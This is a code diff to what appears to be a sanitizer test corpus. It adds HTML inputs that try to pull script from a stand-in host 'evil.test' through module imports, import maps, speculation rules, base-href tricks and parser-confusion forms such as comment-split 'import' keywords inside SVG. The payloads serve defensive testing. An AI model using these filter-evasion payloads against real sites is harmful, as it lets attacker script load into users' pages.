@@ -182,6 +182,69 @@ src
 <script nomodule async defer src={E}></script>
 """
 
+MODULES = f"""
+<script type=module>import "{E}"</script>
+<SCRIPT TYPE=" Module ">import "{E}"</SCRIPT>
+<script type=module>import a,{{b as c}}from'{E}'</script><script type=module>export*from"{E}"</script>
+<script type=module>import/*"*/a/**/from//'
+"{E}"</script>
+<script type=module>import j from "{E}" with {{type: "json"}}</script>
+<script type=module>import "\x2f\u002fevil.test/x"</script>
+<script type=module>var a
+/'/;import"{E}";'</script>
+<script type=module>`${{`'`}}`;import "{E}";'`'</script>
+<script type=module>if(a)/'/.test(b);import "{E}";'</script>
+<script>import("{E}")</script><script type=module>x(() => import( /**/ '{E}' ))</script>
+<script type=module>[...import("{E}")]</script>
+<svg><script type=module>import "{E}"</script></svg>
+<svg><script type=module>import &#34;{E}"</script></svg>
+<svg><script type=module>imp<!---->ort "{E}"</script></svg>
+<svg></g><script type=module>imp<!---->ort "{E}"</script></svg>
+<svg></g><script type=module>imp<g/>ort "{E}"</script></svg>
+<svg></g><style>@imp<!---->ort "{E}";</style></svg>
+<script type=speculationrules>{{"prefetch": [{{"urls": ["/a", "{E}"]}}]}}</script>
+<script type=speculationrules>{{"prerender": [{{"source": "list", "urls": ["{E}"]}}]}}</script>
+<base href=//evil.test/><script type=module>import "./x.js"</script>
+"""
+
+# An import map, what stands after it, and what the module on the page imports.
+_MAPS = [
+    (f'{{"imports": {{"a": "{E}"}}}}', "", "a"),
+    ('{"imports": {"a/": "//evil.test/"}}', "", "a/b.js"),
+    ('{"imports": {"a": "/a", "a/b/": "//evil.test/"}}', "", "a/b/c.js"),
+    (f'{{"imports": {{"/a.js": "{E}"}}}}', "", "../a.js"),
+    (f'{{"imports": {{"https://www.example.org/a.js": "{E}"}}}}', "", "/a.js"),
+    (f'{{"scopes": {{"/dir/": {{"a": "{E}"}}}}}}', "", "a"),
+    (f'{{"imports": {{"{E}": "/a"}}, "scopes": 1}}', "", E),
+    (f'{{"imports": {{"{E}": "/a",}}}}', "", E),
+    (f'{{"imports": {{"https:{E}": "/a"}}, "scopes": {{"dir/": {{"https:{E}": "/a"}}}}}}', "", f"https:{E}?"),
+    ("{}", f'<script type=importmap>{{"imports": {{"a": "{E}"}}}}</script>', "a"),
+    ('{"imports": {"a": "/a"}}', "<base href=//evil.test/>", "./a"),
+]
+_ELSEWHERE = (
+    "<noscript>{}</noscript>",
+    "<template>{}</template>",
+    "<!--{}-->",
+    "<svg><title>{}</title></svg>",
+)
+
+
+def _page(map: str, after: str, specifier: str) -> str:
+    module = f"<script type=module>import '{specifier}'</script>"
+    return f"<script type=importmap>{map}</script>{after}{module}"
+
+
+IMPORT_MAPS = [
+    *(_page(*one) for one in _MAPS),
+    *(
+        place.format(f'<script type=importmap>{{"imports": {{"{E}": "/a"}}}}</script>')
+        + f"<script type=module>import '{E}'</script>"
+        for place in _ELSEWHERE
+    ),
+    f'<script type=importmap src=/m>{{"imports": {{"{E}": "/a"}}}}</script>'
+    f'<script type=module>import "{E}"</script>',
+]
+
 COMMENTS = f"""
 <!--><img src={E}>-->
 <!---><img src={E}>-->
@@ -417,4 +480,5 @@ def split(block: str) -> list[str]:
     return inputs
 
 
-INPUTS = [one for block in (RAW_TEXT, NOSCRIPT, SCRIPTS, COMMENTS, ELEMENTS, URLS) for one in split(block)]
+BLOCKS = (RAW_TEXT, NOSCRIPT, SCRIPTS, MODULES, COMMENTS, ELEMENTS, URLS)
+INPUTS = [*IMPORT_MAPS, *(one for block in BLOCKS for one in split(block))]
